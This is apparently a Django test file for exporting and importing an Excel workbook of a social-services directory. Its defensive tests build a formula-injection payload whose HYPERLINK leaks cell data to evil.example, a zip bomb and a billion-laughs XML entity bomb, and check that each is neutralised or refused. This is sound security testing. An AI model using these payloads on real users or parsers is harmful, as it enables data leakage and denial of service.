"""The Excel workbook of the directory: export, import of what Excel saves, bad workbooks."""

import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from structures.data import workbooks
from structures.data.formats import directory_write, records_read
from structures.data.planning import records_import
from structures.data.records import ImportReport
from structures.management.commands.load_demo import directory_delete
from structures.models import Contact, Service, Structure, Theme

from .directory_data import directory_build, directory_snapshot, problems_of
from .factories import StructureFactory, ThemeFactory
from .workbooks import as_excel_saves, table_sheet, workbook_bytes

pytestmark = pytest.mark.django_db


def xlsx_import(data, *, apply=False, name="repertoire.xlsx"):
    report = ImportReport()
    records = records_read(format="xlsx", files={name: data}, report=report)
    return records_import(records=records, apply=apply, report=report)


def exported():
    files, shortened = directory_write(format="xlsx")
    assert list(files) == ["repertoire.xlsx"]
    assert shortened == []
    return files["repertoire.xlsx"]


def test_the_workbook_has_the_four_tables_with_the_csv_columns_and_real_types():
    directory_build()

    workbook = openpyxl.load_workbook(io.BytesIO(exported()))

    assert workbook.sheetnames == [
        "thematiques",
        "structures",
        "services",
        "contacts",
        "changements",
    ]
    sheet = workbook["structures"]
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["uid", "identifiant", "nom"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.auto_filter.ref.startswith("A1:")
    rows = {
        row[1]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2, values_only=True)
    }
    ccas = rows["ccas"]
    assert isinstance(ccas["relue_le"], datetime)
    assert sheet.cell(2, header.index("relue_le") + 1).number_format == "dd/mm/yyyy hh:mm"
    assert ccas["code_postal"] == "69300"  # text: the leading zero of 01000 is kept
    assert ccas["horaires"] == "Du lundi au vendredi\n9 h – 12 h"
    assert rows["restos"]["annexe"] == "oui"
    widths = {sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMN"}
    assert min(widths) >= 8
    assert max(widths) <= 60
    services = [row for row in workbook["services"].iter_rows(2, values_only=True)]
    assert "logement, sante" in next(row for row in services if row[2] == "logement")
    assert workbook["thematiques"]["C2"].data_type == "n"


def test_no_cell_of_the_workbook_is_a_formula_and_risky_texts_keep_excels_text_mark():
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
    StructureFactory(slug="ccas", name="CCAS", role=formula, opening_hours="- Bail")

    data = exported()

    sheets = [
        zipfile.ZipFile(io.BytesIO(data)).read(name)
        for name in zipfile.ZipFile(io.BytesIO(data)).namelist()
        if name.startswith("xl/worksheets/")
    ]
    assert not [sheet for sheet in sheets if b"<f>" in sheet]
    sheet = openpyxl.load_workbook(io.BytesIO(data))["structures"]
    header = [cell.value for cell in sheet[1]]
    role = sheet.cell(2, header.index("presentation") + 1)
    assert (role.value, role.data_type, role.quotePrefix) == (formula, "s", True)
    assert sheet.cell(2, header.index("horaires") + 1).quotePrefix
    assert not sheet.cell(2, header.index("nom") + 1).quotePrefix


def test_export_then_import_into_an_empty_database_reproduces_the_directory():
    directory_build()
    Structure.objects.filter(slug="ccas").update(role="=1+1", access_details="- Bail\n- Quittance")
    before = directory_snapshot()
    data = exported()
    directory_delete()

    report = xlsx_import(data, apply=True)

    assert report.ok, problems_of(report)
    assert directory_snapshot() == before


def test_reimporting_the_exported_workbook_changes_nothing():
    call_command("load_demo", verbosity=0, stdout=io.StringIO())
    report = xlsx_import(exported())
    assert report.ok, problems_of(report)
    assert all(not (count["created"] or count["updated"]) for count in report.counts.values())
    assert report.counts["services"]["unchanged"] == 81


def test_one_cell_edited_in_excel_changes_exactly_that_field():
    directory_build()
    before = directory_snapshot()
    workbook = openpyxl.load_workbook(io.BytesIO(exported()))
    sheet = workbook["structures"]
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(2) if row[1].value == "restos")
    row[header.index("horaires")].value = "Mardi et jeudi, 14 h – 17 h"
    buffer = io.BytesIO()
    workbook.save(buffer)  # as Excel would: the other cells are untouched

    report = xlsx_import(buffer.getvalue(), apply=True)

    assert report.ok, problems_of(report)
    assert report.counts["structures"] == {"updated": 1, "unchanged": 1}
    assert all(report.counts[table]["updated"] == 0 for table in ["services", "contacts"])
    after = directory_snapshot()
    restos = Structure.objects.get(slug="restos").uid
    changed = after["structures"][restos]
    assert changed.pop("opening_hours") == "Mardi et jeudi, 14 h – 17 h"
    before["structures"][restos].pop("opening_hours")
    assert after == before


def excel_structures(*rows, **options):
    return workbook_bytes({"structures": table_sheet("structures", *rows)}, **options)


def test_what_excel_does_to_cells_is_read_as_the_coordinator_meant_it():
    data = excel_structures(
        {
            "identifiant": "ccas",
            "nom": "CCAS",
            "code_postal": 69300,
            "telephone": 472000000,
            "autre_telephone": 115,
            "annexe": False,
            "relue_le": date(2025, 3, 31),
        },
        {
            "identifiant": "ain",
            "nom": "Point d'accueil de l'Ain",
            "code_postal": 1000.0,
            "telephone": "04 74 00 00 00",
            "annexe": "VRAI",
            "relue_le": datetime(2025, 3, 31, 14, 30),  # noqa: DTZ001 (Excel has no time zones)
        },
        {"identifiant": "caf", "nom": "CAF", "annexe": True},
        {"identifiant": "mdr", "nom": "MDR", "annexe": "FAUX"},
    )

    report = xlsx_import(data, apply=True)

    assert report.ok, problems_of(report)
    ccas, ain = Structure.objects.get(slug="ccas"), Structure.objects.get(slug="ain")
    assert (ccas.postcode, ccas.phone, ccas.phone_other, ccas.is_annex) == (
        "69300",
        "04 72 00 00 00",
        "115",
        False,
    )
    assert (ain.postcode, ain.is_annex) == ("01000", True)
    assert timezone.localdate(ccas.last_reviewed_at) == date(2025, 3, 31)
    assert timezone.localtime(ain.last_reviewed_at).strftime("%H:%M") == "14:30"
    assert Structure.objects.get(slug="caf").is_annex
    assert not Structure.objects.get(slug="mdr").is_annex


def test_formulas_are_read_by_the_value_excel_shows():
    data = excel_structures(
        {"identifiant": "ccas", "nom": "CCAS", "commune": "Bellecombe"},
        formulas={("structures", "C2"): ('="CCAS de "&I2', "CCAS de Bellecombe")},
    )
    report = xlsx_import(data, apply=True)
    assert report.ok, problems_of(report)
    assert Structure.objects.get().name == "CCAS de Bellecombe"


def test_an_excel_error_in_a_cell_is_reported_with_its_sheet_row_and_column():
    data = excel_structures(
        {"identifiant": "ccas", "nom": "CCAS"},
        {"identifiant": "caf", "nom": "CAF", "annexe": "peut-être"},
        formulas={("structures", "I2"): ("=VLOOKUP(A2,Z:Z,2,0)", "#N/A")},
    )

    report = xlsx_import(data)

    assert problems_of(report) == [
        "repertoire.xlsx, feuille « structures », ligne 2, colonne « commune » : la cellule "
        "affiche une erreur Excel (#N/A) : corrigez la formule, ou remplacez-la par sa valeur.",
        "repertoire.xlsx, feuille « structures », ligne 3, colonne « annexe » : « peut-être » : "
        "écrivez « oui » ou « non ».",
    ]


def test_title_rows_hidden_sheets_other_sheets_and_empty_formatted_cells_do_not_break_it():
    ThemeFactory(slug="logement", name="Logement")
    sheets = {
        "Notes": [["Sommaire"], ["À relire avant l'import"]],
        "Structures": table_sheet("structures", {"identifiant": "ccas", "nom": "CCAS"}),
        "Services": table_sheet(
            "services", {"structure": "ccas", "intitule": "Aide", "thematiques": "logement"}
        ),
    }
    data = workbook_bytes(sheets, hidden={"Services"}, title_rows={"Structures", "Services"})

    report = xlsx_import(data, apply=True)

    assert report.ok, problems_of(report)
    assert Service.objects.get().structure.slug == "ccas"
    assert report.notes == [
        "repertoire.xlsx : feuille « Notes » ignorée.",
        "repertoire.xlsx, feuille « Services » est masquée dans Excel : elle est importée comme "
        "les autres.",
    ]


def test_a_merged_header_cell_leaves_an_untitled_column_that_is_ignored():
    rows = table_sheet("contacts", {"structure": "ccas", "nom": "Karim Exemple"})
    rows[0].insert(4, None)
    rows[1].insert(4, "ignoré")
    StructureFactory(slug="ccas")
    report = xlsx_import(workbook_bytes({"contacts": rows}), apply=True)
    assert report.ok, problems_of(report)
    assert Contact.objects.get().name == "Karim Exemple"
    assert "les colonnes sans titre sont ignorées" in report.notes[0]


def test_the_columns_are_checked_like_those_of_a_csv_file():
    rows = table_sheet("structures", {"identifiant": "ccas", "nom": "CCAS"})
    rows[0][5] = "remarques"
    report = xlsx_import(workbook_bytes({"structures": rows}))
    assert problems_of(report) == [
        "repertoire.xlsx, feuille « structures », ligne 1 : colonnes manquantes : "
        "« presentation ». Colonnes attendues : " + ", ".join(table_sheet("structures")[0]) + ".",
        "repertoire.xlsx, feuille « structures », ligne 1 : colonnes inconnues (retirez-les ou "
        "corrigez leur nom) : « remarques ». Colonnes attendues : "
        + ", ".join(table_sheet("structures")[0])
        + ".",
    ]


def zip_of(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb():
    """A 300 MB sheet of zeros packed in a few hundred kilobytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            chunk = b"0" * (1024 * 1024)
            for _ in range(300):
                part.write(chunk)
    return buffer.getvalue()


def billion_laughs():
    """Shared strings whose one entity would expand to a billion « lol »."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    data = workbook_bytes({"structures": table_sheet("structures")}, styled_tail=False)
    return as_excel_saves(data, {}, shared_strings=strings.encode())


BAD_WORKBOOKS = {  # built when the test runs: the bomb takes a second to pack
    "csv renamed": (lambda: b"uid;identifiant;nom\r\n", "ce n'est pas un classeur Excel (.xlsx)"),
    "xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "Excel 97-2003 (.xls)"),
    "zip": (lambda: zip_of({"photo.jpg": b"\xff\xd8"}), "ce fichier .zip n'est pas un classeur"),
    "zip bomb": (bomb, "décompressé dépasserait 200\u202fMo"),
    "billion laughs": (billion_laughs, "classeur endommagé ou illisible"),
    "damaged sheet": (
        lambda: zip_of({"xl/workbook.xml": "<workbook", "[Content_Types].xml": "<Types/>"}),
        "classeur endommagé ou illisible",
    ),
}


@pytest.mark.parametrize(("build", "message"), BAD_WORKBOOKS.values(), ids=BAD_WORKBOOKS.keys())
def test_a_bad_or_malicious_workbook_is_refused_in_french(build, message):
    report = xlsx_import(build(), apply=True)
    assert len(report.problems) == 1
    assert report.problems[0].where == "repertoire.xlsx"
    assert message in report.problems[0].message
    assert not Structure.objects.exists()


def test_huge_shared_strings_are_refused_before_they_are_read(monkeypatch):
    data = excel_structures({"identifiant": "ccas", "nom": "x" * 3000})
    monkeypatch.setattr(workbooks, "PART_MAX_BYTES", 2000)
    report = xlsx_import(data)
    assert "décompressé dépasserait" in problems_of(report)[0]


def test_a_workbook_too_big_to_upload_is_refused(monkeypatch):
    monkeypatch.setattr(workbooks, "WORKBOOK_MAX_BYTES", 1000)
    report = xlsx_import(excel_structures({"identifiant": "ccas", "nom": "CCAS"}))
    assert "au plus 0\u202fMo sont acceptés" in problems_of(report)[0]


def test_a_sheet_with_too_many_filled_rows_is_refused(monkeypatch):
    monkeypatch.setattr(workbooks, "ROWS_MAX", 3)
    rows = [{"identifiant": f"s{number}", "nom": f"S {number}"} for number in range(4)]
    report = xlsx_import(excel_structures(*rows))
    assert problems_of(report) == [
        "repertoire.xlsx : plus de 3 lignes remplies dans une feuille : découpez le classeur."
    ]


def test_a_workbook_without_any_sheet_of_the_directory_is_refused():
    report = xlsx_import(workbook_bytes({"Feuil1": [["nom", "adresse"], ["CCAS", "Mairie"]]}))
    assert "aucune feuille du répertoire" in problems_of(report)[0]


def test_the_admin_downloads_the_workbook(coordinator_client):
    directory_build()
    response = coordinator_client.get(reverse("admin:structures_directory_export", args=["xlsx"]))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert re.search(
        r'filename="repertoire-\d{4}-\d\d-\d\d\.xlsx"', response["Content-Disposition"]
    )
    assert openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames[1] == "structures"


def test_the_commands_export_and_import_the_workbook(tmp_path, capsys):
    directory_build()
    call_command("export_directory", "--format", "xlsx", "--output", str(tmp_path))
    Theme.objects.filter(slug="sante").update(name="Soins")
    call_command("import_directory", str(tmp_path), "--format", "xlsx", "--apply")
    assert Theme.objects.get(slug="sante").name == "Santé"
    assert "Thématiques : 0 créées, 1 mises à jour, 1 inchangées." in capsys.readouterr().out
